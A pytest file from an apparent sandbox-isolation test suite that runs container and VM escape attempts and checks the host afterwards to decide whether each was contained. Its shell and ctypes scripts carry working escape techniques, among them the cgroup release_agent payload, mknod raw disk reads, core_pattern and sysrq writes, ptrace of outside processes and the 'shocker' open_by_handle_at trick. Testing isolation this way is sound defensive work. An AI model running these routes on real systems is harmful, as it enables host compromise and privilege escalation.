"""Kernel-level escape routes on every substrate, each judged by reading the host afterwards.

Container cases (crun, runc, docker, function) run the attacks in a python sandbox of the same substrate and
driver, so ctypes reaches the raw syscalls (mknod, unshare, keyctl, ptrace, open_by_handle_at, pivot_root, mount);
the shell routes run there too (Debian's util-linux and coreutils). VM cases run the shell routes with busybox in
the guest: root of its own kernel may well succeed there, so only the host side decides. Routes that need python
in a VM (keyrings, ptrace, open_by_handle_at) are n/a there: a guest's syscalls reach only its own kernel, and no
host file, key or process is reachable from it (the agent channel is a virtio-serial byte stream).
"""

from __future__ import annotations

import os
import secrets
import time
from pathlib import Path

import pytest

from dsec.errors import DsecError

from . import host
from .conftest import is_vm
from .table import not_applicable, record

pytestmark = pytest.mark.timeout(300)

# wait until a background attack wrote its file (a protocol point, not a guess at its speed); the exec's own
# timeout bounds it
POLL = "while [ ! -s {path} ]; do sleep 0.05; done"


def _attacker(case, spawn):
    """The sandbox an attack runs in: python on container substrates, the case's busybox guest on VMs."""
    return spawn() if is_vm(case) else spawn(image_override="python")


def _sh(sandbox, script: str, timeout: float = 60) -> str:
    try:
        result = sandbox.exec(["/bin/sh", "-c", script], timeout=timeout)
    except DsecError as error:
        return f"{type(error).__name__}: {error.message}"
    return f"{result.stdout.decode(errors='replace')} {result.stderr.decode(errors='replace')}".strip()


def _py(sandbox, code: str, *args: str, timeout: float = 60) -> str:
    try:
        result = sandbox.exec(["python3", "-c", code, *args], timeout=timeout)
    except DsecError as error:
        return f"{type(error).__name__}: {error.message}"
    return f"{result.stdout.decode(errors='replace')} {result.stderr.decode(errors='replace')}".strip()


def _verdict(case, attempt: str, inside: bool, host_changes: list[str], outcome: str, ran: bool) -> None:
    """Contained = the host shows nothing and (containers only) the route failed inside too; VMs: host only.

    `ran`: the attack printed its own report. Without it the attempt proves nothing, so the test fails without a
    row (the table shows it MISSING and bench/load.py refuses the run) instead of counting as contained."""
    assert ran, f"{case[0]}: {attempt}: the attack did not report ({outcome[-200:]})"
    contained = not host_changes and (inside or is_vm(case))
    text = ("HOST: " + "; ".join(host_changes) + " | " if host_changes else "host unchanged; ") + outcome
    assert record(case[0], attempt, text, contained)


def test_cgroup_release_agent(case, spawn):
    token = secrets.token_hex(5)
    bait = Path("/tmp") / f"dsec-escape-{token}"
    sandbox = _attacker(case, spawn)
    before = host.HostState.capture()
    script = f"""
T={token}
up=$(sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/self/mountinfo | head -n 1)
printf '#!/bin/sh\\necho $T > /tmp/dsec-escape-$T\\n' > /payload-$T; chmod +x /payload-$T
mkdir -p /tmp/cg-$T
for c in memory pids rdma; do mount -t cgroup -o $c cgroup /tmp/cg-$T 2>/dev/null && {{ echo MOUNTED-$c; break; }}; done
for d in /tmp/cg-$T /sys/fs/cgroup /sys/fs/cgroup/*; do
  [ -e $d/release_agent ] || continue
  echo "$up/payload-$T" > $d/release_agent 2>/dev/null && echo "RA-WRITTEN"
  mkdir $d/x-$T 2>/dev/null && echo 1 > $d/x-$T/notify_on_release && sh -c "echo \\$\\$ > $d/x-$T/cgroup.procs" && echo CG-JOINED
done
echo tried
"""
    outcome = _sh(sandbox, script)
    after = host.HostState.capture()
    changes = before.changes(after)
    before.restore()
    if bait.exists():
        changes.append(f"release agent ran on the host: {bait}")
        bait.unlink()
    changes += [f"cgroup {p}" for p in host.cgroups_with(token)]
    inside = not any(word in outcome for word in ("MOUNTED", "RA-WRITTEN", "CG-JOINED"))
    _verdict(case, "cgroup v1 release_agent/notify_on_release", inside, changes, outcome[-60:], "tried" in outcome)


def test_mknod_and_raw_disk_read(case, spawn):
    sandbox = _attacker(case, spawn)
    script = """
for d in /sys/class/block/*; do
  mm=$(cat $d/dev 2>/dev/null) || continue
  n=/tmp/blk-$(echo $mm | tr : -)
  if mknod $n b $(echo $mm | tr : ' ') 2>/dev/null; then
    echo "BLK $mm $(dd if=$n bs=65536 count=1 2>/dev/null | sha256sum | cut -c1-64)"
  else echo "DENIED $mm"; fi
done | head -n 24
mknod /tmp/mem c 1 1 2>/dev/null && head -c 16 /tmp/mem >/dev/null 2>&1 && echo CHAR-READ
mknod /tmp/kmsg c 1 11 2>/dev/null && head -c 16 /tmp/kmsg >/dev/null 2>&1 && echo CHAR-READ
echo tried
"""
    outcome = _sh(sandbox, script, timeout=120)
    empty = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
    changes, read = [], 0
    for line in outcome.splitlines():
        parts = line.split()
        if len(parts) == 3 and parts[0] == "BLK" and parts[2] not in (empty, host.ZERO_64K_SHA256):
            read += 1
            if host.block_device_head_sha256(parts[1]) == parts[2]:
                changes.append(f"read the host's block device {parts[1]}")
    denied = outcome.count("DENIED")
    inside = "BLK" not in outcome and "CHAR-READ" not in outcome
    _verdict(case, "mknod block/char devices, raw disk read", inside, changes,
             f"{denied} mknod denied, {read} guest devices read; {'CHAR-READ' if 'CHAR-READ' in outcome else ''}",
             "tried" in outcome)


def test_user_namespace_regains_capabilities(case, spawn):
    token = str(7_000_000 + secrets.randbelow(1_000_000))
    sandbox = _attacker(case, spawn)
    script = (
        f"unshare -U -r -m sh -c 'grep CapEff /proc/self/status; mount -t tmpfs none /tmp && echo USERNS-MOUNT; "
        f"exec sleep {token}' > /tmp/us.out 2>&1 & " + POLL.format(path="/tmp/us.out") + "; cat /tmp/us.out"
    )
    if not is_vm(case):
        script += (
            "; python3 -c 'import ctypes,os;l=ctypes.CDLL(None,use_errno=True);"
            "r=l.unshare(0x10000000);print(\"unshare(CLONE_NEWUSER)\",r,os.strerror(ctypes.get_errno()))'"
        )
    outcome = _sh(sandbox, script)
    init_ns = host.user_namespace(1)
    changes = [
        f"host pid {pid} runs in a new user namespace"
        for pid in host.processes_with(f"sleep\0{token}")
        if host.user_namespace(pid) != init_ns
    ]  # fmt: skip
    inside = "USERNS-MOUNT" not in outcome and "CapEff:\t000001ff" not in outcome and " 0 Success" not in outcome
    _verdict(case, "user namespace to regain capabilities", inside, changes, outcome[-70:], "CapEff" in outcome or "unshare" in outcome)


def test_proc_sys_and_sysrq(case, spawn):
    token = secrets.token_hex(5)
    sandbox = _attacker(case, spawn)
    before, cursor = host.HostState.capture(), host.kernel_log_cursor()
    script = f"""
w() {{ echo "$2" > $1 2>/dev/null && echo "WROTE $1"; }}
w /proc/sys/kernel/core_pattern '|/payload-{token} %p'
w /proc/sys/kernel/hostname hostile-{token}
mount -o remount,rw /proc/sys 2>/dev/null && echo REMOUNTED
w /proc/sys/kernel/core_pattern '|/payload-{token} %p'
w /proc/sysrq-trigger h
echo tried
"""
    outcome = _sh(sandbox, script)
    after = host.HostState.capture()
    changes = before.changes(after)
    before.restore()
    changes += [f"kernel log: {line}" for line in host.kernel_log_since(cursor) if "sysrq" in line.lower()]
    inside = "WROTE" not in outcome and "REMOUNTED" not in outcome
    _verdict(case, "/proc/sys core_pattern+hostname, remount rw, sysrq-trigger", inside, changes, outcome[-60:], "tried" in outcome)


def test_sys_kernel_writes(case, spawn):
    before = host.HostState.capture()
    thp = before.knobs.get("/sys/kernel/mm/transparent_hugepage/enabled", "")
    other_thp = "never" if "[never]" not in thp else "madvise"
    pages = int(before.knobs.get("/sys/kernel/mm/ksm/pages_to_scan", "100") or 100) + 1
    sandbox = _attacker(case, spawn)
    script = f"""
w() {{ echo "$2" > $1 2>/dev/null && echo "WROTE $1"; }}
mount -o remount,rw /sys 2>/dev/null && echo REMOUNTED
w /sys/kernel/mm/transparent_hugepage/enabled {other_thp}
w /sys/kernel/mm/ksm/pages_to_scan {pages}
w /sys/kernel/mm/ksm/run 1
w /sys/kernel/uevent_helper /payload
w /sys/kernel/profiling 1
echo tried
"""
    outcome = _sh(sandbox, script)
    after = host.HostState.capture()
    changes = before.changes(after)
    before.restore()
    inside = "WROTE" not in outcome and "REMOUNTED" not in outcome
    _verdict(case, "/sys/kernel writes (THP, KSM, uevent_helper), remount rw", inside, changes, outcome[-60:], "tried" in outcome)


KEYRING = """
import ctypes, os, sys
l = ctypes.CDLL(None, use_errno=True)
l.syscall.restype = ctypes.c_long
desc = ("dsec-" + sys.argv[1]).encode()
out = []
for name, args in (
    ("add_key", (248, b"user", desc, b"secret", 6, ctypes.c_long(-4))),  # KEY_SPEC_USER_KEYRING
    ("add_key(session)", (248, b"user", desc, b"secret", 6, ctypes.c_long(-3))),
    ("request_key", (249, b"user", desc, None, 0)),
    ("keyctl(join)", (250, 1, desc)),  # KEYCTL_JOIN_SESSION_KEYRING
):
    r = l.syscall(*args)
    out.append(f"{name}={'OK' if r >= 0 else os.strerror(ctypes.get_errno())}")
try:
    out.append("proc_keys=" + str(len(open("/proc/keys").read().splitlines())))
except OSError as e:
    out.append("proc_keys=" + e.strerror)
print(" ".join(out))
"""


def test_kernel_keyrings(case, spawn):
    if is_vm(case):
        not_applicable(case[0], "kernel keyrings", "n/a: a guest's keyrings are its own kernel's; the busybox guest has no python")
        return
    token = secrets.token_hex(5)
    sandbox = _attacker(case, spawn)
    outcome = _py(sandbox, KEYRING, token)
    changes = [f"host key: {line}" for line in host.keys_with(token)]
    inside = "=OK" not in outcome
    _verdict(case, "kernel keyrings (add_key, request_key, keyctl)", inside, changes, outcome[-70:], "proc_keys=" in outcome)


PTRACE = """
import ctypes, os, sys, time
l = ctypes.CDLL(None, use_errno=True)
out = []
iov = (ctypes.c_char * 8)()
local = (ctypes.c_void_p * 2)(ctypes.cast(iov, ctypes.c_void_p), 8)
for pid in map(int, sys.argv[2:]):  # host pids of processes outside this sandbox
    if os.path.exists(f"/proc/{pid}"):  # the number names one of our own processes here: not a route outside
        out.append(f"{pid}:in-sandbox")
        continue
    r = l.ptrace(16, pid, 0, 0)  # PTRACE_ATTACH
    out.append(f"{pid}:{'ATTACHED' if r == 0 else os.strerror(ctypes.get_errno())}")
    r = l.process_vm_readv(pid, local, 1, local, 1, 0)
    out.append(f"vm_readv={'READ' if r > 0 else os.strerror(ctypes.get_errno())}")
print(" ".join(out), flush=True)
open("/tmp/pt-done", "w").write("x")
time.sleep(20)  # hold any attachment while the host looks
"""


def test_ptrace_outside(case, spawn, hostile_server):
    if is_vm(case):
        not_applicable(case[0], "ptrace of processes outside", "n/a: a guest sees no host process; ptrace reaches its own kernel")
        return
    token = secrets.token_hex(5)
    marker = str(7_000_000 + secrets.randbelow(1_000_000))
    victim = spawn()
    victim.exec(f"sleep {marker} >/dev/null 2>&1 &")
    deadline = time.monotonic() + 20
    while not (victims := host.processes_with(f"sleep\0{marker}")) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert victims, "the victim's process never appeared on the host"
    sandbox = _attacker(case, spawn)
    server = hostile_server.process.pid
    outside = [server, victims[0], os.getpid()]  # the server, another sandbox's process, this test
    sandbox.files.write("/tmp/pt.py", PTRACE)
    targets = " ".join(map(str, outside))
    script = f"python3 /tmp/pt.py {token} {targets} > /tmp/pt.out 2>&1 & " + POLL.format(path="/tmp/pt-done") + "; cat /tmp/pt.out"
    outcome = _sh(sandbox, script)
    attackers = set(host.processes_with(token))
    changes = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit() and (tracer := host.tracer_of(int(entry.name))) in attackers:
            changes.append(f"host pid {entry.name} traced by the sandbox")
    changes += [f"host pid {pid} traced by pid {host.tracer_of(pid)}" for pid in outside if host.tracer_of(pid)]
    _sh(sandbox, "kill $(pidof python3) 2>/dev/null; true")
    inside = "ATTACHED" not in outcome and "=READ" not in outcome
    ran = "vm_readv=" in outcome or "in-sandbox" in outcome
    _verdict(case, "ptrace/process_vm_readv of the server, another sandbox, the test", inside, changes, outcome[-70:], ran)


HANDLE = """
import ctypes, os, struct, sys
l = ctypes.CDLL(None, use_errno=True)
bait = sys.argv[1]
out = []
for mount in ("/.dsec/run", "/etc/hosts", "/etc/resolv.conf", "/"):
    try:
        fd = os.open(mount, os.O_RDONLY)
    except OSError:
        continue
    # struct file_handle {u32 handle_bytes; int handle_type; u8 f_handle[]}: FILEID_INO32_GEN, inode 2 = fs root
    handle = ctypes.create_string_buffer(struct.pack("<Ii", 8, 1) + struct.pack("<II", 2, 0))
    r = l.open_by_handle_at(fd, handle, os.O_RDONLY)
    if r < 0:
        out.append(f"{mount}:{os.strerror(ctypes.get_errno())}")
        continue
    out.append(f"{mount}:OPENED")
    try:
        out.append(open(os.open(bait.lstrip("/"), os.O_RDONLY, dir_fd=r)).read())
    except OSError as e:
        out.append(e.strerror)
mount_id = ctypes.c_int()
handle = ctypes.create_string_buffer(struct.pack("<Ii", 128, 0) + bytes(128))
r = l.name_to_handle_at(-100, b"/", handle, ctypes.byref(mount_id), 0)
out.append(f"name_to_handle_at={'OK' if r == 0 else os.strerror(ctypes.get_errno())}")
print(" ".join(out))
"""


def test_open_by_handle_at(case, spawn, bait):
    if is_vm(case):
        not_applicable(case[0], "open_by_handle_at (shocker)", "n/a: no host filesystem is mounted in a guest (root disk: an image)")
        return
    secret, paths = bait
    sandbox = _attacker(case, spawn)
    outcome = _py(sandbox, HANDLE, str(paths[0]))
    changes = ["read the host bait through a handle"] if secret in outcome else []
    inside = "OPENED" not in outcome and "name_to_handle_at=OK" not in outcome
    _verdict(case, "open_by_handle_at/name_to_handle_at (shocker)", inside, changes, outcome[-70:], "name_to_handle_at=" in outcome)


PIVOT = """
import ctypes, os, sys
l = ctypes.CDLL(None, use_errno=True)
new = "/tmp/new-" + sys.argv[1]
os.makedirs(new + "/old", exist_ok=True)
r = l.syscall(155, new.encode(), (new + "/old").encode())  # pivot_root
print("pivot_root(syscall)=" + ("OK" if r == 0 else os.strerror(ctypes.get_errno())))
"""


def test_mount_and_pivot_root_tricks(case, spawn):
    token = secrets.token_hex(5)
    sandbox = _attacker(case, spawn)
    script = f"""
T={token}; mkdir -p /tmp/m-$T /tmp/new-$T/old
mount --bind / /tmp/m-$T 2>/dev/null && echo BIND-OK
mount -t sysfs sysfs /tmp/m-$T 2>/dev/null && echo SYSFS-OK
mount --make-rshared / 2>/dev/null && echo SHARED-OK
mount -o remount,rw /proc/sys 2>/dev/null && echo REMOUNT-OK
(unshare -m sh -c 'cd /tmp/new-$T && pivot_root . old && echo PIVOT-OK') 2>/dev/null
echo tried
"""
    outcome = _sh(sandbox, script)
    if not is_vm(case):
        outcome += " " + _py(sandbox, PIVOT, token)
    changes = [f"host mount: {line[:80]}" for line in host.mounts_with(token)]
    inside = "-OK" not in outcome and "=OK" not in outcome
    _verdict(case, "bind/sysfs/rshared/remount mounts, pivot_root", inside, changes, outcome[-70:], "tried" in outcome)
